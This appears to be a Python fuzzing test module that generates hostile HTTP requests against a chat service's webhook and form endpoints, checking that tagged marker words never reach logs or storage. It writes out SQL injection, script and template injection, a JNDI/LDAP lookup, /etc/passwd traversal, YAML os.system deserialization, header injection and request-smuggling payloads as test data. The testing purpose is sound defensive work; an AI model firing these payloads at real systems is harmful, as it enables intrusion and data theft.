"""Hostile input for the two doors of the chat, made from a seed: the bytes that go to the socket.

Each carries a word of its own, which no log and no database may have afterwards.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlencode

from bot.languages import LANGUAGES

#: Every word begins so. No word of any language does.
PREFIX = "wqxzuk"
JSON, FORM = "application/json", "application/x-www-form-urlencoded"
TURN, PAGE = "/webhooks/web/turn", "/chat"
METHODS = ("PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "CONNECT", "get", "PROPFIND")
#: A face, a family joined by what draws nothing, and the flag of Wales.
EMOJI = "\U0001f600\U0001f469\u200d\U0001f467\U0001f3f4\U000e0067\U000e0062\U000e007f"
#: Nothing of a page may hold it as it is.
MARKUP = "<img src=x onerror="


@dataclass(frozen=True)
class Attack:
    """One input.

    Attributes:
        kind: what it tries.
        data: what goes to the socket.
        is_answered: whether HTTP has an answer to it; what is no HTTP may be cut off.
        hangs_up: whether the connection is closed at once.
        has_body: whether an answer to it has a body; none to HEAD has.
    """

    kind: str
    data: bytes
    is_answered: bool = True
    hangs_up: bool = False
    has_body: bool = True


@dataclass(frozen=True)
class Maker:
    """What an attack is made with: chance, its own word, and a state that is good."""

    chance: random.Random
    word: str
    state: str

    def one(self, *choices: Any) -> Any:
        """Returns one of some values."""
        return self.chance.choice(choices)

    def times(self, most: int) -> int:
        """Returns how often: seldom or nearly as often as may be."""
        return self.one(1, 2, 7, most // 2, most)

    def bytes(self, most: int) -> bytes:
        """Returns any bytes."""
        return self.chance.randbytes(self.chance.randint(1, most))


def attacks(seed: int, count: int, state: Callable[[], str]) -> Iterator[Attack]:
    """Makes so many inputs, always the same ones of a seed.

    Args:
        seed: of all chance.
        count: how many.
        state: gives a sealed state that the chat has made.
    """
    chance = random.Random(seed)  # noqa: S311 - of a test
    for number in range(count):
        word = f"{PREFIX}{number}n{chance.randrange(10**9)}"
        maker = Maker(chance, word, state())
        # Each kind in turn, so that none is left out.
        yield KINDS[number % len(KINDS)](maker)


def http(
    maker: Maker,
    path: str,
    body: bytes = b"",
    *more: str,
    method: str = "POST",
    kind: str | None = JSON,
    length: str | None = None,
) -> bytes:
    """Returns a request as it goes to the socket; `length` may be a lie."""
    lines = [f"{method} {path} HTTP/1.1", "Host: chat.example", f"User-Agent: {maker.word}"]
    lines += [f"Content-Type: {kind}"] if kind else []
    lines += [f"Content-Length: {len(body) if length is None else length}"] if length != "" else []
    lines += [*more, "Connection: close", "", ""]
    return "\r\n".join(lines).encode("utf-8", "surrogateescape") + body


def text(maker: Maker) -> str:
    """Returns what somebody might type who means harm, or whose phone plays up."""
    word, one = maker.word, maker.one
    return one(
        f"{word} he is hitting me",
        f"{word}\x00\x07\x1b[31m\x7f\x85\r\n\t",
        f"\u202e{word}\u2066\u200b\u200d\ufeff مساعدة \u202d",
        f"{word}{'q' * (500 - len(word))}",
        f"{word} {EMOJI * 9}",
        f"'; DROP TABLE texts; -- {word}",
        f'" OR 1=1; UPDATE people SET roles = 1 -- {word}',  # noqa: S608 - nobody runs it
        f"{MARKUP}{word}><script>{word}</script></textarea>",
        f"{{{{ 7*7 }}}}{{% for x in {word} %}}${{7*7}}#{{7*7}}<%= {word} %>",
        f"${{jndi:ldap://{word}.example/a}} %s %n %(x)s {{0.__class__}} {{}}",
        f'/safety_danger{{"name": "{word}"}}',
        f'/services_find{{"nation": "wales", "x": "{word}"}}@0.9;/restart',
        f"/{one('restart', 'session_start', 'back', 'action_listen', word)} EXTERNAL: {word}",
        f"../../../etc/passwd%00{word}",
        f"{word} " + "\ufdfa" * maker.times(400),
        f"{word} " + "a\u0301\u0327\u0330" * maker.times(100),
        f"{word} " + "\ud800\udfff" * maker.times(90),
        f"{word} "
        + one("0 ", "12 a", "a@", "1-", "(", "a1", ",", "#", "\u3164") * maker.times(150),
        f"{word} +44 7700 900123 {word}@example.com RF1234567 12 Long Road LS1 4AP",
        f"{word}\u2028\u2029\u000b\u000c\u3000" + " " * maker.times(300),
        f"&a [*a] !!python/object/apply:os.system [{word}]",
        f"{word}\r\nSet-Cookie: {word}=1\r\n\r\n",
        "".join(chr(maker.chance.randrange(0xD800)) for _ in range(60)) + word,
        "".join(chr(maker.chance.randrange(0x10000, 0x110000)) for _ in range(60)) + word,
    )[:500]


def value(maker: Maker) -> Any:
    """Returns a value of JSON that no text is, with the word in it."""
    return maker.one(
        *([maker.word], {maker.word: maker.word}, 1, -0.0, 1e308, True, [], {}),
        *([[[[maker.word]]]], float("nan"), float("inf"), 10 ** maker.times(4000)),
    )


def altered(maker: Maker) -> str:
    """Returns a state that is none of ours any more, or never was one."""
    state, at = maker.state, maker.chance.randrange(1, max(2, len(maker.state)))
    return maker.one(
        state[:at] + maker.one("A", "!", "é", "\x00", "=", " ", maker.word) + state[at + 1 :],
        state[:at],
        state[at:],
        state * maker.times(8),
        maker.word,
        "gAAAAA" + "A" * maker.times(2000),
        maker.one("null", "{}", "\ud800", "a" * 9000),
    )


def fields(maker: Maker) -> dict[str, Any]:
    """Returns the fields of a turn, one of them hostile and the word somewhere."""
    good = {"state": maker.one("", maker.state), "lang": maker.one(*LANGUAGES)}
    query = quote(text(maker)[:50], errors="replace")
    return maker.one(
        {**good, "message": text(maker)},
        {**good, "message": text(maker), "state": altered(maker)},
        {**good, "choose": text(maker)},
        {**good, "choose": f"services.find?nation={maker.word}&{query}"},
        {**good, "choose": "services.find?nation=wales&need=talk", "page_lang": maker.word},
        {**good, "lang": text(maker)},
        {**good, "message": maker.word, "preview": text(maker)},
        {**good, "message": maker.word, text(maker): text(maker)},
        {**good, "message": maker.word, "choose": maker.word},
        {**good, "message": maker.word * 90, "sender": maker.word},
    )


# The kinds


def turn(maker: Maker) -> Attack:
    """A well-formed turn with hostile fields."""
    data = json.dumps(fields(maker), ensure_ascii=True).encode()
    return Attack("turn", http(maker, TURN, data))


def form(maker: Maker) -> Attack:
    """The same through the form."""
    data = urlencode(fields(maker), errors="replace").encode()
    return Attack("form", http(maker, PAGE, data, kind=FORM))


def wrong_type(maker: Maker) -> Attack:
    """A value that is no text, in any field or in the place of all of them."""
    name = maker.one("message", "choose", "state", "lang", "preview")
    body = maker.one({name: value(maker), "x": maker.word}, [maker.word], maker.word, None, 7)
    # Numbers longer than Python writes are written by hand.
    data = maker.one(json.dumps({**{"x": maker.word}, name: "N"}).replace('"N"', "9" * 5000), None)
    if data is None:
        body = "huge" if isinstance(body, dict) and isinstance(body[name], int) else body
        data = json.dumps(body)
    return Attack("wrong type", http(maker, TURN, data.encode()))


def broken_json(maker: Maker) -> Attack:
    """JSON that was cut, spliced, nested or swollen."""
    good = json.dumps({"message": maker.word, "state": maker.state}).encode()
    at = maker.chance.randrange(len(good))
    data = maker.one(
        good[:at],
        good[:at] + maker.bytes(20) + good[at:],
        b"[" * maker.times(15_000),
        b'{"message":' * maker.times(1_400),
        b'{"message": "' + maker.word.encode() + b"a" * maker.one(600, 17_000, 200_000) + b'"}',
        good + good,
        b"\xef\xbb\xbf" + good,
        good.decode().encode("utf-16"),
        good.replace(b'"message"', b'"message": "x", "message"'),
        b'{"message": "' + maker.word.encode() + b'\xff\xfe\xc0\x80"}',
        maker.bytes(3_000) + maker.word.encode(),
        b"",
    )
    return Attack("broken JSON", http(maker, TURN, data))


def odd_form(maker: Maker) -> Attack:
    """Forms that no browser sends, in every type of content."""
    word = maker.word.encode()
    kind, data = maker.one(
        (FORM, b"message=%ff%fe%00" + word + b"&state=%00&lang=%zz&%"),
        (FORM, b"message=" + word + b"&message=x&message[]=y&message=" + word),
        (FORM, (b"a=&" * maker.times(5_000)) + b"message=" + word),
        (FORM, b"=" * maker.times(9_000) + word),
        (FORM + "; charset=utf-16", b"message=" + word),
        (f"{FORM}; charset={maker.word}", b"message=" + word),
        ("multipart/form-data", b"--x" + word),
        ("multipart/form-data; boundary=", b"--\r\n\r\n" + word),
        ("multipart/form-data; boundary=x", b"--x\r\n\r\n" + word),
        ("multipart/form-data; boundary=x", _part(word, b"") + _part(word, b'; filename="a.exe"')),
        ("multipart/form-data; boundary=x", _part(word, b"; filename*=utf-16''%ff")),
        ("text/plain", b"message=" + word),
        (maker.word, b"message=" + word),
        (None, b"message=" + word),
    )
    path = maker.one(PAGE, PAGE, PAGE, "/forget", TURN)
    return Attack("odd form", http(maker, path, data, kind=kind))


def _part(word: bytes, more: bytes) -> bytes:
    head = b'--x\r\nContent-Disposition: form-data; name="message"' + more
    return head + b"\r\nContent-Type: text/" + word + b"\r\n\r\n" + word + b"\xff\r\n--x--\r\n"


def header(maker: Maker) -> Attack:
    """Headers that lie about the body, about who asks, or about how."""
    body = json.dumps({"message": maker.word}).encode()
    long = maker.word + "a" * maker.times(6_000)
    more, length, answered = maker.one(
        (
            f"Accept-Language: {maker.one('en;q=nan', 'cy;q=1e999', ',' * 900, 'é', long)}",
            None,
            True,
        ),
        (f"Cookie: session={long}", None, True),
        (f"X-Forwarded-For: 198.51.100.7, {maker.word}", None, True),
        (f"Forwarded: for={maker.word};host={maker.word};proto=https", None, True),
        (f"X-HTTP-Method-Override: DELETE\r\nX-Original-URL: /{maker.word}", None, True),
        (f"Range: bytes=0-{'9' * 30}\r\nIf-None-Match: {maker.word}", None, True),
        (f"Content-Encoding: gzip\r\nX-Word: {maker.word}", None, True),
        (f"Upgrade: websocket\r\nSec-WebSocket-Key: {maker.word}", None, True),
        (f"Expect: {maker.word}", None, True),
        ("Expect: 100-continue", None, True),
        (f"Host: {maker.word}:99999\r\nHost: {maker.word}", None, True),
        (f"{maker.word}: \udcff\udcfe\udc80", None, False),
        (f"{maker.word}\r\n : x\r\nX", None, False),
        ("X-Word: " + long * 9, None, False),
        ("X: y\r\n" * 900 + "X: y", None, False),
        ("X: y", maker.one("-1", "1e3", "0x10", "9" * 40, maker.word, "1, 2"), False),
        ("X: y", "0", True),
        (f"Content-Length: {len(body)}", "3", False),
        ("Transfer-Encoding: chunked", maker.one(None, ""), False),
        (f"Transfer-Encoding: {maker.word}, chunked", "", False),
    )
    return Attack("header", http(maker, TURN, body, more, length=length), answered)


def chunked(maker: Maker) -> Attack:
    """A body in pieces whose sizes are true, or not."""
    body = json.dumps({"message": maker.word}).encode()
    size, wrong = b"%x" % len(body), maker.one(b"zz", b"-1", b"f" * 30, b"", b"0x5")
    data, answered = maker.one(
        (size + b"\r\n" + body + b"\r\n0\r\n\r\n", True),
        (size + b";" + maker.word.encode() + b"\r\n" + body + b"\r\n0\r\nX: y\r\n\r\n", False),
        (wrong + b"\r\n" + body + b"\r\n0\r\n\r\n", False),
        (b"2000\r\n" + b"a" * 0x2000 + b"\r\n" + b"2000\r\n" + b"a" * 0x2000 + b"\r\n1\r\n", False),
        (b"1\r\n" + body + b"\r\n0\r\n\r\n", False),
    )
    head = http(maker, TURN, b"", "Transfer-Encoding: chunked", length="")
    return Attack("chunked", head + data, answered)


def method(maker: Maker) -> Attack:
    """Methods that no page uses, on every address."""
    name = maker.one(*METHODS, "GET", maker.word.upper()[:12])
    path = maker.one(TURN, PAGE, "/", "/forget", "/exit", "/static/chat.js", f"/{maker.word}")
    data = http(maker, f"{path}?message={maker.word}", b"", method=name, kind=None)
    # CONNECT and what has no such name are no requests of ours.
    return Attack("method", data, name not in ("CONNECT", "get"), has_body=name != "HEAD")


def path(maker: Maker) -> Attack:
    """Addresses that lead out, or that carry words."""
    word = maker.word
    asked = maker.one(
        f"/{word}",
        f"/static/../../{word}",
        f"/static/%2e%2e%2f%2e%2e%2f{word}",
        f"/static/{word}%00.js",
        f"/%ff%fe{word}",
        f"//{word}//../chat",
        f"/chat?lang={word}&message={word}&state={word}",
        f"/chat?{'a=b&' * 1_500}{word}",
        f"/preview?preview={word}&message={word}",
        f"/preview?choose={word}",
        f"/privacy?lang={word}",
        f"/privacy.json?{word}",
        f"/traces?partner=https://{word}.example&lang=cy",
        f"/exit?lang={word}&to=https://{word}.example",
        f"/webhooks/rest/webhook?sender={word}",
        f"/conversations/{word}/tracker",
        f"/{word}" + "a" * maker.times(3_000),
        f"http://{word}.example/chat",
        f"/chat;{word}#{word}",
        f"/\u00e9{word}",
    )
    return Attack("path", http(maker, asked, b"", method="GET", kind=None), "\u00e9" not in asked)


def half(maker: Maker) -> Attack:
    """A request that ends in the middle, or whose answer nobody waits for."""
    body = json.dumps({"message": f"{maker.word} he is hitting me"}).encode()
    whole = http(maker, maker.one(TURN, PAGE), body, kind=maker.one(JSON, FORM))
    cut = maker.chance.randrange(1, len(whole))
    data = maker.one(whole, whole[:cut], whole[: len(whole) - len(body)], whole + whole)
    return Attack("hang-up", data, is_answered=False, hangs_up=True)


def no_http(maker: Maker) -> Attack:
    """Bytes that are no request at all."""
    word = maker.word.encode()
    data = maker.one(
        maker.bytes(2_000) + word + b"\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + word + b"\r\n\r\n",
        b"GET /" + word + b"\r\n\r\n",
        b"GET /" + word + b" HTTP/9.9\r\n\r\n",
        b"POST " + word + b" HTTP/1.1\r\n\r\n",
        b"\r\n" * 50 + word + b"\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + word,
        b"EHLO " + word + b"\r\n\r\n",
    )
    return Attack("no HTTP", data, is_answered=False)


#: Turns and forms oftener than the rest: behind them is the most.
KINDS: tuple[Callable[[Maker], Attack], ...] = (
    *(turn, form, turn, wrong_type, broken_json, form, odd_form, header),
    *(turn, form, chunked, method, path, half, no_http),
)
